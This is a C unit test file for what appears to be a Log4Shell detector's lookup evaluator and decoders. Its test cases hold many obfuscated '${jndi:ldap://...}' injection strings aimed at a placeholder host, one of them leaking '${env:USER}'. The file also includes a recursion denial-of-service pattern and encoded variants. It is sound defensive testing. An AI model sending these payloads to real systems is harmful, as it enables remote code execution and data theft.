/*
 * test_lookup.c - the Log4j lookup evaluator and the decoders, case by
 * case: what Log4j 2.14.1 would look up, and what it would leave alone.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <string.h>
#include <cmocka.h>

#include "detect/decode.h"
#include "detect/lookup.h"

/* The first JNDI name Log4j would look up in s, or NULL. */
static const char *jndi(struct l4s_result *r, const char *s)
{
    l4s_eval((const uint8_t *)s, strlen(s), r);
    return r->n_jndi ? r->jndi[0] : NULL;
}

static void evaluates_obfuscations(void **st)
{
    (void)st;
    struct l4s_result r;
    l4s_result_init(&r, 1 << 16);
    const char *want = "ldap://x/a";
    const char *cases[] = {
        "${jndi:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
        "${${::::::-j}ndi:ldap://x/a}",
        "${${ozI:Kgh:-j}ndi:ldap://x/a}",
        "${${${lower:l}ower:j}ndi:ldap://x/a}",
        "${jNdI:ldap://x/a}",
        "${${upper:j}${upper:n}${lower:D}${upper:\xc4\xb1}:ldap://x/a}",
        "${${date:'j'}ndi:ldap://x/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
        "${lower:$${jndi:ldap://x/a}}",
        "prefix text ${jndi:ldap://x/a} suffix",
    };
    for(size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const char *got = jndi(&r, cases[i]);
        if(!got || strcmp(got, want))
            fail_msg("case %zu: %s gave %s", i, cases[i], got ? got : "none");
    }
    assert_string_equal(jndi(&r, "${jndi:ldap://x${lower:.}y/a}"),
                        "ldap://x.y/a");
    assert_string_equal(jndi(&r, "${jndi:ldap://${env:USER}.x/a}"),
                        "ldap://${env:USER}.x/a");
    l4s_result_free(&r);
}

static void leaves_alone(void **st)
{
    (void)st;
    struct l4s_result r;
    l4s_result_init(&r, 1 << 16);
    const char *cases[] = {
        "$${jndi:ldap://x/a}",            /* escaped */
        "${jndi:ldap://x/a",               /* never closed */
        "${base64:JHtqbmRpOmxkYXA6Ly94L2F9}", /* no such lookup */
        "${url:UTF-8:http://x/a}",
        "echo ${HOME} ${PATH:-/bin}",
        "${${::-${::-$${::-j}}}}",         /* recursion DoS pattern */
        "no lookups here at all",
    };
    for(size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        if(jndi(&r, cases[i]))
            fail_msg("case %zu: %s looked up %s", i, cases[i], r.jndi[0]);
    }
    jndi(&r, "${jndi:ldap://x/a");
    assert_true(r.unbalanced);
    l4s_result_free(&r);
}

static void limits_hold(void **st)
{
    (void)st;
    struct l4s_result r;
    char deep[4096];
    size_t k = 0;
    l4s_result_init(&r, 1 << 16);
    for(int i = 0; i < 200; i++, k += 8)
        memcpy(deep + k, "${lower:", 8);
    deep[k++] = 'x';
    for(int i = 0; i < 200; i++)
        deep[k++] = '}';
    deep[k] = 0;
    l4s_eval((const uint8_t *)deep, strlen(deep), &r);
    assert_true(r.aborted);
    /* the same name nested in its own default is not a cycle for Log4j */
    assert_null(jndi(&r, "${a:-${a:-x}}"));
    assert_string_equal(buf_cstr(&r.out), "x");
    l4s_result_free(&r);
}

static void java_case_mapping(void **st)
{
    (void)st;
    struct buf b;
    buf_init(&b, 256);
    l4s_upper((const uint8_t *)"\xc4\xb1\xc5\xbf\xc3\x9f", 6, &b);
    assert_int_equal(b.len, 4);
    assert_memory_equal(b.p, "ISSS", 4);      /* dotless i, long s, sharp s */
    b.len = 0;
    l4s_lower((const uint8_t *)"\xe2\x84\xaaNDI", 6, &b);  /* Kelvin sign */
    assert_memory_equal(b.p, "kndi", 4);
    buf_free(&b);
}

static const char *layers(struct buf *b, const char *s, unsigned *bits)
{
    b->len = 0;
    *bits = decode_layers((const uint8_t *)s, strlen(s), false, 6, b);
    return buf_cstr(b);
}

static void decoders(void **st)
{
    (void)st;
    struct buf b;
    unsigned bits;
    buf_init(&b, 4096);
    assert_string_equal(layers(&b, "%2524%257B", &bits), "${");
    assert_int_equal(bits, DEC_URL);
    assert_string_equal(layers(&b, "\\u0024\\\\u007B\\044", &bits), "${$");
    assert_string_equal(layers(&b, "&#x24;&#0000123;&dollar;", &bits), "${$");
    assert_string_equal(layers(&b, "&LBRACE;&lbrace", &bits), "&LBRACE;&lbrace");
    assert_string_equal(layers(&b, "%26%2336%3B", &bits), "$");
    assert_int_equal(bits, DEC_URL | DEC_HTML);
    b.len = 0;
    size_t used = decode_b64((const uint8_t *)"JHtqbmRpfQ==!", 13, &b);
    assert_int_equal(used, 12);
    assert_string_equal(buf_cstr(&b), "${jndi}");
    b.len = 0;
    decode_b64((const uint8_t *)"JHtqbm", 6, &b);     /* truncated */
    assert_string_equal(buf_cstr(&b), "${jn");
    buf_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(evaluates_obfuscations),
        cmocka_unit_test(leaves_alone),
        cmocka_unit_test(limits_hold),
        cmocka_unit_test(java_case_mapping),
        cmocka_unit_test(decoders),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
